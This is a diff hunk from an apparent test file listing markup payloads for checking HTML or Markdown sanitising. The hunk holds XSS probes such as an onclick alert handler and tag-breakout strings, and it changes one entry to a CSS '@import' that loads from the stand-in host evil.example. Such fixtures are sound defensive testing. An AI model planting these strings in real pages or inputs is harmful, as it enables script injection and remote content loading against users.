@@ -19,7 +19,7 @@ PAYLOADS = (
     "`<b>x</b>` **bold** _under_ ~~gone~~",
     "# Heading",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<!-- --><style>body{display:none}</style>",
+    "<!-- --><style>@import url(//evil.example)</style>",
     "</title></style></textarea><b onclick=alert(1)>x</b>",
 )
 """Sixteen of them; none has a brace that a template would read, so that each can be stored anywhere."""
